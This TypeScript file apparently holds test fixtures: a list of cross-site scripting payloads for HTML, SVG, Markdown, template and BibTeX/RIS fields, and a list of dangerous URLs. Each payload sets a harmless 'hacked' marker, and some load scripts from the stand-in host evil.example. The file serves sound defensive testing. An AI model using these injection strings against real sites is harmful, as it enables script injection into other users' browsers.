/**
 * What somebody might write into a field to have it run in a reader's browser. Each sets `hacked` where it runs; `MARK`
 * makes it findable in a page.
 */
export const MARK = 'hacked';

export const VECTORS: readonly string[] = [
  // Elements that run.
  '<script>hacked=1</script>',
  '<SCRIPT>hacked=1</SCRIPT>',
  '<script src=https://evil.example/hacked.js></script>',
  '<script type="module">import "https://evil.example/hacked.js"</script>',
  '</script><script>hacked=1</script>',
  '</title><script>hacked=1</script>',
  '</textarea><script>hacked=1</script>',
  '<!--><script>hacked=1</script-->',
  '<![CDATA[<script>hacked=1</script>]]>',
  '<scr<script>ipt>hacked=1</scr</script>ipt>',
  '<noscript><p title="</noscript><script>hacked=1</script>">',
  '<style>@import "https://evil.example/hacked.css"</style>',
  '<iframe src="javascript:hacked=1"></iframe>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<object data="javascript:hacked=1"></object>',
  '<embed src="javascript:hacked=1">',
  '<base href="https://evil.example/hacked/">',
  '<meta http-equiv="refresh" content="0;url=javascript:hacked=1">',
  '<link rel="stylesheet" href="https://evil.example/hacked.css">',
  '<form action="javascript:hacked=1"><button>go</button></form>',
  '<button formaction="javascript:hacked=1">go</button>',
  '<template><script>hacked=1</script></template>',
  // Handlers.
  '<img src=x onerror=hacked=1>',
  '<img src=x onerror="hacked=1">',
  '<img/src=x/onerror=hacked=1>',
  '<img src="x`hacked`" onerror=hacked=1 `>',
  '<body onload=hacked=1>',
  '<details open ontoggle=hacked=1>x</details>',
  '<input autofocus onfocus=hacked=1>',
  '<video><source onerror=hacked=1></video>',
  '<marquee onstart=hacked=1>x</marquee>',
  '<p style="background:url(javascript:hacked=1)">x</p>',
  '<a href="#" onclick="hacked=1">x</a>',
  '<x onfocus=hacked=1 id=x tabindex=1>x</x>',
  // Drawings and formulae.
  '<svg onload=hacked=1></svg>',
  '<svg><script>hacked=1</script></svg>',
  '<svg><a xlink:href="javascript:hacked=1"><text>x</text></a></svg>',
  '<svg><animate onbegin=hacked=1 attributeName=x dur=1s></svg>',
  '<svg><set attributeName="onmouseover" to="hacked=1"></set></svg>',
  '<svg><use href="data:image/svg+xml,<svg onload=hacked=1>"></use></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>hacked=1</script>"></iframe></foreignObject></svg>',
  '<math><mtext></mtext><a xlink:href="javascript:hacked=1">x</a></math>',
  // Out of the attribute or the string in which a field is printed.
  '" onmouseover="hacked=1',
  "' onmouseover='hacked=1",
  '"><script>hacked=1</script>',
  "'><script>hacked=1</script>",
  '" autofocus onfocus="hacked=1" x="',
  '`-hacked=1-`',
  '${hacked=1}',
  '{{constructor.constructor("hacked=1")()}}',
  '";hacked=1;//',
  '\\";hacked=1;//',
  // Markdown that becomes one of these.
  '[x](javascript:hacked=1)',
  '[x](JaVaScRiPt:hacked=1)',
  '[x](java&#10;script:hacked=1)',
  '[x](vbscript:hacked=1)',
  '[x](data:text/html,<script>hacked=1</script>)',
  '![x](javascript:hacked=1)',
  '<javascript:hacked=1>',
  '[x]: javascript:hacked=1 "x"',
  // Out of a field of BibTeX or RIS.
  '}, url = {javascript:hacked=1}, x = {',
  '\\href{javascript:hacked=1}{x}',
  '\nUR  - javascript:hacked=1\nER  - ',
];

/** Addresses, for fields that hold one. */
export const ADDRESSES: readonly string[] = [
  'javascript:hacked=1',
  'JAVASCRIPT:hacked=1',
  ' javascript:hacked=1',
  'java\tscript:hacked=1',
  'vbscript:hacked=1',
  'data:text/html,<script>hacked=1</script>',
  'file:///etc/hacked',
  'https://evil.example/"onmouseover="hacked=1',
  'https://evil.example/<script>hacked=1</script>',
];
